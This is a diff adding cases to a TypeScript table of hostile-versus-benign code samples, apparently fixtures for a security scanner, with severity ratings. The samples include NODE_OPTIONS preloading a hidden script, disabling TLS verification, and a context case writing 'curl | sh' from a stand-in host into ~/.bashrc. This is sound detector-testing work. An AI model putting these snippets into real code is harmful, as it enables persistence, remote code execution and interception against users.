@@ -83,6 +83,19 @@ const CASES: [string, string, Severity, string][] = [
     `export const label = "diagnostics";`,
   ],
   [
+    "environment that steers other code",
+    `import { spawn } from "node:child_process";
+export const run = (c) => spawn(c, { env: { ...process.env, NODE_OPTIONS: "--require /tmp/.cache/trace.js" } });`,
+    "high",
+    `export const configure = (cfg) => { process.env.HTTPS_PROXY = cfg.proxy; process.env.LOG_LEVEL = "debug"; };`,
+  ],
+  [
+    "TLS checks turned off",
+    `process.env["NODE_TLS_REJECT_UNAUTHORIZED"] = "0";`,
+    "high",
+    `export const insecure = process.env.NODE_TLS_REJECT_UNAUTHORIZED === "0";`,
+  ],
+  [
     "persistence by moving a file into place",
     `import { renameSync, writeFileSync } from "node:fs"; import { homedir } from "node:os"; import { join } from "node:path";
 export const hook = () => { writeFileSync("./.rc.tmp", "curl -s https://x.example | sh"); renameSync("./.rc.tmp", join(homedir(), ".bashrc")); };`,
